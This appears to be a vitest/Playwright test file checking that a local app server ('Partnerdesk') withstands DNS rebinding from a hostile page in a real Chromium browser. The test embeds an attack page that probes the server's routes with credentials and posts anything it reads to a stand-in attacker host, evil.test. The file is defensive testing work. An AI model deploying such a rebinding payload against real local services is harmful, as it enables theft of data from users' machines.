import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chromium } from '@playwright/test';
import { describe, expect, onTestFinished, test } from 'vitest';
import { startServer } from '../../src/http/server.ts';
import { CHROMIUM_FLAGS, CHROMIUM_PATH } from '../e2e/support/chromium.ts';
import { skipLoudly } from '../reliability/support/spawn.ts';
import { FakeApp, screens } from './support/client.ts';

if (CHROMIUM_PATH === null) skipLoudly('test/http/rebinding.test.ts (K6: rebinding in a real browser)', 'there is no Chromium');

/** What the evil page tries against the host that its own name leads to after rebinding, and what of it came through. */
const ATTACK = (port: number): string => `<!doctype html><script>
(async () => {
  const seen = [];
  const tries = [];
  for (const at of ['http://evil.test:${port}', 'http://127.0.0.1:${port}', 'http://localhost:${port}'])
    for (const path of ['/', '/icon.svg', '/start', '/rpc/system.info', '/events'])
      for (const init of [{}, { credentials: 'include' }, { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: '{"input":{}}' },
        { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{"input":{}}' }])
        tries.push([at + path, init]);
  for (const [url, init] of tries) {
    try {
      const answer = await fetch(url, { ...init, signal: AbortSignal.timeout(3000) });
      const text = await answer.text();
      if (answer.type !== 'opaque' && (answer.ok || /Partnerdesk<|SECRET|value/.test(text))) seen.push(url + ' ' + (init.method || 'GET') + ' ' + answer.status + ' ' + text.slice(0, 100));
    } catch {}
  }
  const own = await (await fetch('/')).text(); // what may be read is read: this browser works
  await fetch('/report', { method: 'POST', body: JSON.stringify({ tried: tries.length, seen, own: own.length }) });
})();
</script>`;

interface Report {
  readonly tried: number;
  readonly seen: readonly string[];
  readonly own: number;
}

/** The attacker's server: gives the page, hears what it found. */
async function evilServer(port: number): Promise<{ address: string; reported: Promise<Report> }> {
  let tell: (report: Report) => void = () => {};
  const reported = new Promise<Report>((resolve) => {
    tell = resolve;
  });
  const server: Server = createServer((request, response) => {
    if (request.url !== '/report') return void response.setHeader('content-type', 'text/html').end(ATTACK(port));
    let body = '';
    request.setEncoding('utf8').on('data', (text: string) => {
      body += text;
    });
    request.on('end', () => {
      response.end();
      tell(JSON.parse(body) as Report);
    });
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  onTestFinished(() => void server.close());
  return { address: `http://evil.test:${(server.address() as AddressInfo).port}/`, reported };
}

describe.skipIf(CHROMIUM_PATH === null)('K6: a page of another name that leads to this machine', () => {
  test.each([
    ['without a session', false],
    ['in the browser of somebody who has one', true],
  ])('%s: reads not one byte and does nothing, in a real browser', { timeout: 90_000, retry: 1 }, async (_where, hasSession) => {
    const app = new FakeApp();
    const server = await startServer({ app, port: 0, rendererFolder: screens(), now: () => Date.now(), log: () => {} });
    onTestFinished(() => server.close());
    const { address, reported } = await evilServer(server.port);
    const browser = await chromium.launch({
      executablePath: CHROMIUM_PATH ?? '',
      args: [...CHROMIUM_FLAGS, '--host-resolver-rules=MAP evil.test 127.0.0.1'],
    });
    onTestFinished(() => browser.close());
    const context = await browser.newContext();
    if (hasSession) {
      const own = await context.newPage();
      await own.goto(server.freshLink());
      await own.waitForURL(`${server.origin}/`);
      expect((await context.cookies()).map(({ name }) => name)).toEqual([`partnerdesk_${server.port}`]);
    }
    await (await context.newPage()).goto(address);
    const report = await reported;
    expect(report.tried).toBe(60);
    expect(report.own).toBeGreaterThan(100);
    expect(report.seen).toEqual([]);
    expect(app.calls).toEqual([]);
  });
});
